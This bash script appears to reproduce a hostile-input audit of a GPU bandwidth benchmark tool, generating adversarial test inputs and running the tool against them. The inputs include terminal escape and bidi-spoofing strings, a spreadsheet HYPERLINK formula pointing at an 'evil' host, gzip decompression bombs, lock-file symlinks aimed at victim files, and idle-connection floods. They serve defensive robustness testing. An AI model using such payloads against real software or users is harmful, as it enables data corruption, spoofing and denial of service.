#!/usr/bin/env bash
# The repro commands of the hostile-input audit of b30063a (issue 37), one
# function per item, as docs/audits/hostile-input-2026-11-29.md ran them on
# b30063a and on main. Run from a checkout:
#
#   docs/audits/hostile-input-2026-11-29.sh P2PBENCH WORK [ITEM...]
#
# P2PBENCH is the binary to try, WORK an empty directory of its own (the
# fixtures, the hostile inputs, the fake libraries, one directory per item
# and the logs, WORK/logs/ITEM.txt). Without ITEMs every item runs; D5 and
# N26 read a simulated 72-GPU run, which takes minutes to make. N1 (a loop
# device) and N8 (a full tmpfs) need root and are skipped without it. Needs
# python3, gcc and GNU time; promtool and pdfinfo where installed.
set -u
[ $# -ge 2 ] || { sed -n 2,13p "$0"; exit 2; }
export P=$(realpath "$1") WORK=$(realpath -m "$2"); shift 2
ROOT=$(cd "$(dirname "$0")/../.." && pwd)
export IN=$WORK/in FIX=$WORK/fix R=$ROOT/testdata/reference/h200x2 EX=$ROOT/examples/expect
export FAKE="P2PBENCH_LIBCUDA=$WORK/fake/libcuda.so.1 P2PBENCH_LIBNVML=$WORK/fake/libnvidia-ml.so.1"
mkdir -p "$WORK/logs" "$FIX" "$IN" "$WORK/fake"
root=$([ "$(id -u)" = 0 ] && echo yes)

# The fixtures: all --simulate h200x2 of seeds 1-5 (h200a, h200b, h200c,
# h200s4, h200s5), dgx-h100 (dgxa), nvl72 (nvl, only for D5 and N26), a
# short bw run (small.json) and the two imports of ingest/testdata.
fixtures() {
	cd "$FIX" || exit 1
	local i=1 d
	for d in h200a h200b h200c h200s4 h200s5; do
		[ -e $d/results.json ] || $P all --simulate h200x2 --simulate-seed $i --dir $d >/dev/null 2>&1
		i=$((i + 1))
	done
	[ -e dgxa/results.json ] || $P all --simulate dgx-h100 --dir dgxa >/dev/null 2>&1
	[ -e small.json ] || $P bw --simulate h200x2 --tests ce_read,ce_write --samples 2 --size 4KiB -o small.json >/dev/null 2>&1
	[ -e nvbandwidth-v0.8-h200x2.p2pbench.json ] || $P import "$ROOT/ingest/testdata/nvbandwidth-v0.8-h200x2.json" -o nvbandwidth-v0.8-h200x2.p2pbench.json >/dev/null 2>&1
	[ -e nccl-tests-2.19-sendrecv-h200x2.p2pbench.json ] || $P import "$ROOT/ingest/testdata/nccl-tests-2.19-sendrecv-h200x2.txt" -o nccl-tests-2.19-sendrecv-h200x2.p2pbench.json >/dev/null 2>&1
	[ -e "$WORK/fake/libcuda.so.1" ] || { ${CC:-gcc} -shared -fPIC -o "$WORK/fake/libcuda.so.1" "$ROOT/cuda/testdata/fakecuda.c" &&
		${CC:-gcc} -shared -fPIC -o "$WORK/fake/libnvidia-ml.so.1" "$ROOT/nvml/testdata/fakenvml.c"; }
}
nvl() { [ -e "$FIX/nvl/results.json" ] || (cd "$FIX" && $P all --simulate nvl72 --dir nvl >/dev/null 2>&1); }

# The hostile inputs, made from the fixtures.
inputs() {
	cd "$IN" || exit 1
	[ -e done ] && return
	python3 - "$FIX/small.json" "$ROOT/ingest/testdata/nvbandwidth-v0.8-h200x2.json" <<'PY'
import json, copy, sys
S, NVB = sys.argv[1], sys.argv[2]
d = json.load(open(S))
def w(n, o): json.dump(o, open(n, 'w'))
w('typo.json', {"figures": [{"test": "atomic_tput", "params": {"contended": "flase"}, "min": 1}]})
e = copy.deepcopy(d); del e['verify']; w('noverify.json', e)
t = copy.deepcopy(d); v = 2.3e-308                        # D12: a median of 2.3e-308
for f in t['figures']:
    f['samples'] = [v] * len(f['samples']); s = f['stats']
    for k in ('median', 'mean', 'min', 'max', 'p5', 'p95', 'p99'): s[k] = v
    s['stddev'] = 0; s['cv'] = 0
    s['rounds']['median_lo'] = v; s['rounds']['median_hi'] = v; s['rounds']['run_cv'] = 0
    if 'method_check' in f:
        mc = f['method_check']; mc['samples'] = [v] * len(mc['samples']); mc['median'] = v; mc['method_median'] = v; mc['delta'] = 0
w('tiny-samples.json', t)
x = copy.deepcopy(d); x['host'] = 'a\x1b[31mRED\x07\rb'   # D15
for f in x['figures']: f['params']['label'] = '\x1b]0;pwned\x07'
w('esc.json', x)
b = copy.deepcopy(d); b['host'] = 'ホスト\u202eevil'           # N23
for f in b['figures']: f['params']['label'] = '\u202egnp.exe'
w('bidi.json', b)
c = copy.deepcopy(d); c['host'] = '=HYPERLINK("http://evil/"&A1,"click")'; w('formula.json', c)   # N25
s = open(S).read(); i = s.index('"median":') + len('"median":'); j = i   # N14: a 1,000,001-digit median
while s[j] not in ',}': j += 1
open('bignum.json', 'w').write(s[:i] + '1' + '0' * 1000000 + s[j:])
w('ln-spec.json', {"name": "N" * 100000, "figures": [{"test": "ce_read", "min": 0.1}]})
w('s-arr.json', []); w('s-figobj.json', {"figures": {}})   # D19
w('s-minstr.json', {"figures": [{"test": "ce_read", "min": "370"}]})
open('s-min1e999.json', 'w').write('{"figures":[{"test":"ce_read","min":1e999}]}')
w('s-name5.json', {"name": 5, "figures": [{"test": "ce_read", "min": 0.1}]})
w('s-paramnum.json', {"figures": [{"test": "ce_read", "params": {"reps_per_sample": 16}, "min": 0.1}]})
w('s-sizenum.json', {"figures": [{"test": "ce_read", "size": 4096, "min": 0.1}]})
open('v-subn.json', 'w').write('{"figures":[{"test":"ce_read","min":5e-324}]}')   # N20
w('v-max.json', {"figures": [{"test": "lat_chase", "max": 1e308}]})
w('v-param.json', {"figures": [{"test": "ce_read", "params": {"nonexistent_key": ""}, "min": 0.1}]})
m = copy.deepcopy(d); m['notes'] = ['note %d' % i for i in range(2000000)]; w('many-notes.json', m)   # N7
w('e.json', {"nvbandwidth": {}})
n = json.load(open(NVB))                                   # N13
n1 = copy.deepcopy(n); n1['nvbandwidth']['Driver Version'] = '5' * 100000; w('nvb-longdrv.json', n1)
n2 = copy.deepcopy(n); n2['nvbandwidth']['testcases'][0]['bandwidth_matrix'][0][0] = '1e-310'; w('nvb-subn.json', n2)
w('nvb-arr.json', {"nvbandwidth": []})
PY
	cp "$ROOT/ingest/testdata/nccl-tests-2.19-sendrecv-h200x2.txt" nccl.txt
	cp "$ROOT/ingest/testdata/nvbandwidth-v0.8-h200x2.json" nvb.json
	# N5: the first row of a nccl-tests sendrecv log made a 0-byte row
	awk 'NR==12{print "           0             0     float     sum      -1     9.80    0.00    0.00       0     9.75    0.00    0.00    N/A";next}{print}' nccl.txt >n-size0.txt
	# N12: rows of size -8, of a 23-digit size, with binary bytes spliced in
	awk 'NR==13{sub(/^          32/,"          -8")} NR==14{sub(/^         128/,"12345678901234567890123")} NR==15{sub(/float/,"fl\001\377at")} {print}' nccl.txt >n-mangled.txt
	awk 'NR==15{$0="\001\377" $0} {print}' nccl.txt >n-binrow.txt
	mkfifo f.json; mkdir -p emptydir; echo '[]' >arr.json; : >empty.json
	# D3: 896 MiB and 2 GiB of spaces before a valid run, gzip-compressed
	(head -c 939524096 /dev/zero | tr '\0' ' '; cat "$FIX/small.json") | gzip -9 >bomb900.json.gz
	(head -c 2147483648 /dev/zero | tr '\0' ' '; cat "$FIX/small.json") | gzip -9 >bomb2g.json.gz
	# D9: an all run stopped by SIGTERM once it has saved figures
	for t in 3.5 3.8 4 4.5 5; do
		rm -rf part-h200; timeout -s TERM $t $P all --simulate h200x2 --dir part-h200 >/dev/null 2>&1
		python3 -c "import json, sys; sys.exit(not json.load(open('part-h200/results.json'))['figures'])" 2>/dev/null && break
	done
	touch done
}

# r CMD: run CMD (bash), print the last ${L:-8} lines of its output (400
# characters of each at most) and its exit status.
r() { echo "$ $1"; timeout ${T:-180} bash -c "$1" >"$WORK/.out" 2>&1; rc=$?; tail -n ${L:-8} "$WORK/.out" | cut -c1-400; echo "[rc $rc, $(wc -c <"$WORK/.out") bytes of output]"; }
# g CMD PATTERN: as r, but only the lines matching PATTERN (grep -E), 12 at most.
g() { echo "$ $1   | grep -E '$2'"; timeout ${T:-180} bash -c "$1" >"$WORK/.out" 2>&1; rc=$?; grep -E -- "$2" "$WORK/.out" | head -n ${L:-12} | cut -c1-400; echo "[rc $rc, $(wc -c <"$WORK/.out") bytes of output]"; }
SM="--simulate h200x2 --tests ce_read --samples 2 --size 4KiB"
# summary FILE: a results file's completeness, figures and notes, or that it is absent or empty.
summary() {
	[ -s "$1" ] || { echo "$1: absent or empty"; return; }
	python3 -c "import json, sys; d = json.load(open(sys.argv[1])); print(sys.argv[1] + ': complete', d.get('complete'), 'figures', len(d.get('figures') or []), 'notes', [n[:200] for n in (d.get('notes') or [])][:3])" "$1" 2>&1 | tail -1 | cut -c1-600
}

D1() { r "$P all --simulate h200x2 --expect $EX/h200x2.json --size 4MiB --sizes none --samples 4 --dir x1"; ls -d x1 2>&1
  r "$P check $FIX/small.json --expect $EX/h200x2.json --strict"; r "$P check $FIX/h200a/results.json --expect $IN/typo.json"; }
D2() { r "$P topo --simulate h200x2 -o topo.json && $P check topo.json"; r "$P all --simulate h200x2 --size 4MiB --sizes none --simulate-health slow-link:0:1:0.5 --strict --dir d2"; }
D3() { local T=1600; for c in "show $IN/bomb900.json.gz" "show $IN/bomb2g.json.gz" "check $FIX/h200a/results.json --baseline $IN/bomb2g.json.gz"; do
    L=3 r "/usr/bin/time -f 'time %e s, max RSS %M KB' timeout 1500 $P $c"; done
  mkdir -p bd; cp $IN/bomb2g.json.gz $IN/bomb900.json.gz bd/; g "$P fleet bd" "bomb|nodes|rc"; }
D4() { mkdir -p fdir; cp $FIX/small.json fdir/a.json; mkfifo fdir/b.json; g "$P fleet fdir" "b.json|nodes"
  echo 1 > .x.json.lock; r "unshare -fp --mount-proc $P bw $SM -o x.json"; ls -la x.json .x.json.lock 2>&1
  sleep 300 & s=$!; echo "process $s on host $(hostname)" > .y.json.lock; r "$P bw $SM -o y.json"; kill $s; ls -la y.json .y.json.lock 2>&1; }
D5() { g "$P fleet $FIX/nvl/results.json --fail-on-outlier" "Verdicts|OUTLIER|nodes"
  g "$P fleet $FIX/h200a $FIX/h200b $FIX/h200c $FIX/h200s4 $FIX/h200s5 --fail-on-outlier" "Verdicts|OUTLIER|nodes"; }
D6() { r "$P fleet nonexist.json"; r "$P fleet $IN/emptydir"; r "$P fleet 'nomatch*.json'"; r "$P import $IN/e.json -o e6.json"; ls e6.json 2>&1
  $P topo --simulate h200x2 -o topo6.json >/dev/null 2>&1; r "$P plot topo6.json -o p6"; }
D7() { g "$P check $FIX/nvbandwidth-v0.8-h200x2.p2pbench.json --strict" "VERDICT|verif|Verif"; g "$P show $IN/noverify.json" "verif|Verif"; g "$P check $IN/noverify.json" "VERDICT|verif|Verif"; }
D8() { g "$P fleet $FIX/h200a/results.json $FIX/nvbandwidth-v0.8-h200x2.p2pbench.json $FIX/nccl-tests-2.19-sendrecv-h200x2.p2pbench.json" "Verdicts|OUTLIER|T[0-9]|unknown|NOT JUDGED"; }
D9() { L=4 r "$P check $FIX/h200a/results.json --baseline $FIX/dgxa/results.json"
  g "$P compare $FIX/h200a/results.json $FIX/h200b/results.json" "differ|DIFFERENT|significant|compared"; g "$P compare $FIX/h200a/results.json $FIX/dgxa/results.json" "differ|DIFFERENT|GPUs|compared"
  echo "part-h200: an all run stopped by SIGTERM: $(python3 -c "import json; print(len(json.load(open('$IN/part-h200/results.json'))['figures'] or []))") figures"
  g "$P check $FIX/h200b/results.json --baseline $IN/part-h200/results.json" "VERDICT|Judged against|baseline|cut|interrupt|stopped"
  g "$P check $R/all.json --baseline $FIX/h200a/results.json" "VERDICT|Judged against|simulated|baseline"; }
D10() { T=10 r "$P check $FIX/small.json --expect $IN/f.json"; T=10 r "$P all --simulate h200x2 --expect $IN/f.json --dir d10"; T=10 r "P2PBENCH_LIBCUDA=$IN/f.json $P topo"; T=10 r "P2PBENCH_LIBCUDA=/dev/zero $P topo"; }
D11() { echo "$ 50 × $P topo (no driver): distinct messages"; for i in $(seq 50); do $P topo 2>&1 | tail -1; done | sort | uniq -c | cut -c1-300; }
D12() { r "$P compare $IN/tiny-samples.json $FIX/small.json"; L=3 r "$P compare $IN/tiny-samples.json $FIX/small.json --format json"; L=3 r "$P compare $IN/tiny-samples.json $FIX/small.json --plot t.png"; ls -la t.png 2>&1; }
D13() { mkdir -p cc; for i in 1 2 3; do ($P report $FIX/h200a/results.json -o cc/out.md > r1.$i 2>&1; echo "round $i h200a rc $?") & ($P report $FIX/dgxa/results.json -o cc/out.md > r2.$i 2>&1; echo "round $i dgxa rc $?"); wait; cat r1.$i r2.$i | grep -iE "lock|another" | head -2 | cut -c1-300; done; }
D14() { mkdir -p e14 && cd e14 && { r "P2PBENCH_LIBCUDA=/nonexistent $P all"; r "$P all --simulate h200x2 --expect $IN/arr.json --dir specfail"; r "$P all --simulate h200x2 --baseline $IN/empty.json --dir bl"; r "$P all --simulate h200x2 --tuning $FIX/small.json --dir tu"; echo "created: $(ls -A)"; cd ..; }; }
D15() { E=$IN/esc.json; $P check $E -o esc-check.json >/dev/null 2>&1
  for c in "show $E" "check $E" "compare $FIX/small.json $E" "fleet $E" "check $E --format junit" "check $E --format prometheus" "report $E -o esc.md; cat esc.md" "compare $FIX/small.json $E --format csv" "compare $FIX/small.json $E --format json" "compare $FIX/small.json $E --format markdown"; do
    timeout 60 bash -c "$P $c" > o15 2>&1; echo "$ $P $c  → rc $?, ESC bytes: $(tr -cd '\033' < o15 | wc -c), BEL: $(tr -cd '\007' < o15 | wc -c)"; done; grep -m1 -o 'host.\{0,30\}RED.\{0,10\}' o15 esc.md 2>/dev/null | head -2; }
D16() { g "$P compare $R/all.json $FIX/nvbandwidth-v0.8-h200x2.p2pbench.json" "p2pbench:|driver|CUDA|figures|line up|compared"; g "$P compare $FIX/h200a/results.json $FIX/nccl-tests-2.19-sendrecv-h200x2.p2pbench.json" "p2pbench:|driver|CUDA|compared|nccl"; g "$P show $FIX/nccl-tests-2.19-sendrecv-h200x2.p2pbench.json" "CV|largest"; }
D17() { r "$P bw $SM --allow-busy --simulate-health process:0:123:$(printf 'x%.0s' $(seq 5000)) -o longproc.json"; }
D18() { for a in "--rank 0 --ranks 1" "--ranks 0" "--rank -1 --ranks 2" "--rank 0 --ranks 2 --rendezvous 127.0.0.1:99999" "--rank 0 --ranks 99999999"; do L=2 r "$P mnnvl --imex-channel /dev/null $a"; done; }
D19() { for s in arr figobj minstr min1e999 name5 paramnum sizenum; do L=2 r "$P check $FIX/small.json --expect $IN/s-$s.json"; done; }
D20() { r "$P fleet $FIX/small.json --report rep_noext"; }
D21() { r "$P import $IN/nvb.json -o nvbX.json --dir outd"; ls -d outd nvbX.json 2>&1; r "$P import $IN/nccl.txt --collective all_reduce -o c21.json"; r "$P import $IN/nvb.json --buffer-size 3 -o b21.json"; grep -o '"size_bytes": *[0-9]*' b21.json 2>/dev/null | sort | uniq -c | head -3; }
D22() { r "$P bw $SM --dry-run -o dry.json"; ls dry.json 2>&1; r "$P report $FIX/small.json --format pdf -o r.md"; file r.md 2>&1; r "$P check $FIX/small.json --threshold 5%"; r "$P bw $SM --simulate-health slow-link:0:0 -o sl.json"; L=3 r "$P bw --simulate h200x2 --simulate dgx-h100 --tests ce_read --samples 2 --size 4KiB -o two.json"; }
D23() { r "$P bw -h extra"; }
N1() { echo "precious data line" > victim.txt; ln -sf victim.txt .x.json.lock; r "$P bw $SM -o x.json"; echo "victim.txt: $(cat victim.txt)"; ls -la .x.json.lock 2>&1
  echo "precious 2" > victim2.txt; ln -f victim2.txt .y.json.lock; r "$P bw $SM -o y.json"; echo "victim2.txt: $(cat victim2.txt)"
  mkdir -p d; echo "precious 3" > victim3.txt; ln -sf ../victim3.txt d/.results.json.lock; r "$P all --simulate h200x2 --dir d --samples 2 --sizes none"; echo "victim3.txt: $(cat victim3.txt)"
  dd if=/dev/zero of=backing.img bs=1k count=1024 2>/dev/null; lo=$(losetup -f --show backing.img) && { ln -sf $lo .z.json.lock; r "$P bw $SM -o z.json"; losetup -d $lo; echo "backing.img first bytes: $(head -c 32 backing.img | od -c | head -2 | tr -s ' ')"; }; }
N2() { mkdir -p n2 && cd n2 && { r "$P bw --simulate h200x2 --tests ce_read,ce_write --samples 2 --size 4KiB -o /dev/stdout > out.json"; ls -la; summary out.json
  r "$P check $FIX/small.json -o /dev/stdout > f"; echo "f: $(head -c 100 f)"; cd ..; }; }
N3() { g "$P all --simulate h200x2 --size 4MiB --sizes none --samples 2 --dir vall" "VERDICT"; g "$P all --simulate h200x2 --size 4MiB --sizes none --samples 2 --no-verify --dir nvall" "VERDICT"
  g "$P all --simulate h200x2 --size 4MiB --sizes none --samples 2 --allow-busy --simulate-health process:0:4242:python --dir busyall" "VERDICT"; $P bw $SM --no-verify -o nv.json >/dev/null 2>&1; g "$P check nv.json" "VERDICT"; }
N4() { g "$P fleet $R/all.json $R/all-repeat.json $FIX/h200a $FIX/h200b $FIX/h200c" "SIMULATED|Verdicts|OUTLIER|T[0-9] "; g "$P fleet $R/all.json $R/all-repeat.json $FIX/h200a $FIX/h200b $FIX/h200c --fail-on-outlier" "Verdicts"; }
N5() { r "$P import $IN/n-size0.txt -o n-size0.json"; summary n-size0.json; }
N6() { for s in h200a h200b h200c h200s4 h200s5; do g "$P check $FIX/$s/results.json" "VERDICT|WARN —"; done; g "$P check $FIX/h200a/results.json --strict" "VERDICT"; g "$P all --simulate pcie-4gpu --dir pcie" "VERDICT|WARN —"; g "$P all --simulate h200x2 --dir readme" "VERDICT|WARN —"; }
N7() { local T=1600; L=3 r "/usr/bin/time -f 'time %e s, max RSS %M KB' timeout 1500 $P report $IN/many-notes.json -o mn.pdf"; pdfinfo mn.pdf 2>/dev/null | grep Pages; ls -la mn.pdf 2>&1
  L=3 r "/usr/bin/time -f 'time %e s, max RSS %M KB' timeout 1500 $P report $IN/many-notes.json -o mn.md"; ls -la mn.md 2>&1; }
N8() { mkdir -p full tmpd2; mount -t tmpfs -o size=200k tmpfs full; L=14 r "TMPDIR=$PWD/tmpd2 $P all --simulate dgx-h100 --dir full/d"; echo "said of saves during the run: $(grep -iE 'sav' $WORK/.out | grep -v 'is saved in' | head -3 | cut -c1-300)"; ls tmpd2; summary full/d/results.json; umount full; }
N9() { port=$((29000 + RANDOM % 1000)); mkdir -p fab; export FAKECUDA_FABRIC_DIR=$PWD/fab
  local m="--imex-channel /dev/null --tests ipc_ce_read,ipc_sm_write --size 64KiB --samples 2 --rendezvous-wait 15s --ranks 2 --device 0 --rendezvous 127.0.0.1:$port"
  env $FAKE $P mnnvl $m --rank 0 > n9r0 2>&1 & r0=$!
  # 20 connections that say nothing, open before rank 1 starts
  python3 -c "
import socket, time
s, t = [], time.time()
while len(s) < 20 and time.time() - t < 30:
    try: s.append(socket.create_connection(('127.0.0.1', $port)))
    except OSError: time.sleep(0.1)
print(len(s), 'idle connections open', flush=True)
time.sleep(30)" > idle.txt & py=$!
  for _ in $(seq 300); do [ -s idle.txt ] && break; sleep 0.1; done; cat idle.txt
  L=3 r "env $FAKE $P mnnvl $m --rank 1 -o r1.json"
  wait $r0; echo "rank 0 rc $?: $(tail -2 n9r0 | cut -c1-300)"; kill $py 2>/dev/null; wait $py 2>/dev/null; }
N10() { mkdir -p fl4; cp $FIX/dgxa/results.json fl4/node1.json; for i in 1 2; do g "$P fleet fl4 --format json -o fl4/fleet.json --fail-on-outlier" "unreadable|Unreadable|input|refus|rror"; done; }
N11() { $P plot $FIX/h200a/results.json -o pd2 >/dev/null 2>&1; $P plot $FIX/dgxa/results.json -o pd2 > o11 2>&1; echo "sequential h200a then dgxa into pd2: rc $?, $(ls pd2 | wc -l) files, heatmap_ipc: $(ls pd2 | grep -c heatmap_ipc); said: $(grep -iE 'remov|stale' o11 | head -2)"
  for i in 1 2 3; do rm -rf pc; ($P plot $FIX/h200a/results.json -o pc > p1 2>&1; echo "h200a rc $?") & ($P plot $FIX/dgxa/results.json -o pc > p2 2>&1; echo "dgxa rc $?"); wait; echo "  round $i: $(ls pc | wc -l) files; $(cat p1 p2 | grep -iE 'lock|another' | head -1 | cut -c1-200)"; done; }
N12() { r "$P import $IN/n-binrow.txt -o n12b.json"; r "$P import $IN/n-mangled.txt -o n12.json"; summary n12b.json; summary n12.json; }
N13() { r "$P import $IN/nvb-longdrv.json -o n13a.json"; r "$P import $IN/nvb-subn.json -o n13b.json"; r "$P import $IN/nvb-arr.json -o n13c.json"; }
N14() { L=2 r "$P show $IN/bignum.json"; L=2 r "$P bw $SM --allow-busy --simulate-health process:0:123:$(printf 'x%.0s' $(seq 5000)) -o lp.json"
  g "$P check $FIX/small.json --expect $IN/ln-spec.json -o ln.json" "Judged against|VERDICT|spec|name"; ls -la ln.json 2>&1; L=2 r "$P show ln.json"; }
N15() { $P all --simulate h200x2 --dir same >/dev/null 2>&1; m1=$(md5sum < same/results.json); r "$P all --simulate h200x2 --simulate-seed 7 --dir same 2>&1 | grep -iE 'kept|earlier|replac|results\\.json\\.' "; echo "md5 changed: $([ "$m1" != "$(md5sum < same/results.json)" ] && echo yes); files: $(ls same | tr '\n' ' ')"; }
N16() { for s in 4KB 4K 4MB 4KiB 4GB; do L=2 r "$P bw --simulate h200x2 --tests ce_read --samples 2 --size $s -o s$s.json; grep -o '\"size_bytes\": *[0-9]*' s$s.json | sort -u"; done; L=2 r "$P bw --simulate h200x2 --tests ce_read --samples 2 --size 4XB -o sx.json"; }
N17() { cp $FIX/small.json victim.json; r "P2PBENCH_CPUPROFILE=victim.json $P show victim.json"; ls -la victim.json; r "P2PBENCH_CPUPROFILE=/dev/loop-nonexist $P show $FIX/small.json"; ls -la /dev/loop-nonexist 2>&1; rm -f /dev/loop-nonexist; }
N18() { mkfifo nv.fifo 2>/dev/null; g "env P2PBENCH_LIBCUDA=$WORK/fake/libcuda.so.1 P2PBENCH_LIBNVML=$PWD/nv.fifo $P topo" "NVML"; g "env P2PBENCH_LIBCUDA=$WORK/fake/libcuda.so.1 P2PBENCH_LIBNVML=$WORK/fake/libcuda.so.1 $P topo" "NVML"; }
N19() { rm -rf s2; timeout -s TERM 3 $P all --simulate dgx-h100 --dir s2 > o19 2>&1; echo "all + SIGTERM at 3 s: rc $?, $(grep VERDICT o19)"; g "$P check s2/results.json" "VERDICT|stopped"; $P report s2/results.json -o s2.md >/dev/null 2>&1; grep -m1 'Verdict' s2.md; }
N20() { for s in subn max param; do g "$P check $FIX/h200a/results.json --expect $IN/v-$s.json" "VERDICT|spec|match|bound|vacu|rror|key"; done; }
N21() { g "$P check $FIX/nccl-tests-2.19-sendrecv-h200x2.p2pbench.json" "VERDICT|baseline|Keep|driver"; }
N22() { g "$P fleet $FIX/small.json nonexist.json $FIX/nvbandwidth-v0.8-h200x2.p2pbench.json $FIX/nccl-tests-2.19-sendrecv-h200x2.p2pbench.json" "SIMULATED|====|nodes"; }
N23() { for c in "compare $FIX/small.json $IN/bidi.json" "check $IN/bidi.json" "show $IN/bidi.json"; do timeout 60 bash -c "$P $c" > o23 2>&1; echo "$ $P $c → rc $?, U+202E: $(grep -c $'\u202e' o23) lines, U+FFFD: $(grep -c $'\ufffd' o23) lines"; done; }
N24() { L=2 r "$P bw --simulate h200x2 --tests '' --samples 2 --size 4KiB --sizes none -o t24.json"; L=2 r "$P bw $SM --blocks-per-sm 0 --block-size 0 -o b24.json"; L=2 r "$P bw $SM --rounds 0x2 -o r24.json"; L=2 r "$P bw --simulate h200x2 --tests ce_read --size 4KiB --samples 1e3 -o s24.json"; }
N25() { $P fleet $IN/formula.json --format csv > o25 2>&1; echo "fleet formula.json --format csv: rc $?"; grep -i hyperlink o25 | cut -c1-200; }
N26() { $P check $FIX/nvl/results.json --format prometheus > o26 2>/dev/null; echo "check nvl --format prometheus: rc $?, series: $(grep -vc '^#' o26)"; grep -v '^#' o26 | sed 's/{.*//' | sort | uniq -c | sort -rn | head -4; promtool check metrics < o26 2>&1 | tail -2; }

ITEMS="D1 D2 D3 D4 D5 D6 D7 D8 D9 D10 D11 D12 D13 D14 D15 D16 D17 D18 D19 D20 D21 D22 D23
N1 N2 N3 N4 N5 N6 N7 N8 N9 N10 N11 N12 N13 N14 N15 N16 N17 N18 N19 N20 N21 N22 N23 N24 N25 N26"
[ $# -gt 0 ] || set -- $ITEMS
(fixtures) && (inputs) || exit 1
for it in "$@"; do
	case " $(echo $ITEMS) " in *" $it "*) ;; *) echo "no item $it" >&2; exit 2 ;; esac
	case $it in D5 | N26) nvl ;; N1 | N8) [ -n "$root" ] || { echo "$it: needs root, skipped" >"$WORK/logs/$it.txt"; continue; } ;; esac
	d=$WORK/run/$it; rm -rf "$d"; mkdir -p "$d"
	(cd "$d" && { echo "=== $it ($P) ==="; $it; }) >"$WORK/logs/$it.txt" 2>&1
	echo "$it: $WORK/logs/$it.txt"
done
